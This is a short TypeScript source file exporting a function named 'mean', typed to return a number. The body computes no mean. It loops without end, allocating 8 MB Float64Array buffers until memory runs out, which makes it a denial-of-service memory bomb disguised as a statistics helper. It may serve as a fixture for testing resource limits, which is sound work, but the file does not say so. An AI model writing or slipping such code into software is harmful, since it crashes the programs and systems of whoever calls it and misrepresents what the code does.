export function mean(): number {
  const all: Float64Array[] = [];
  for (;;) all.push(new Float64Array(1 << 20).fill(1));
}
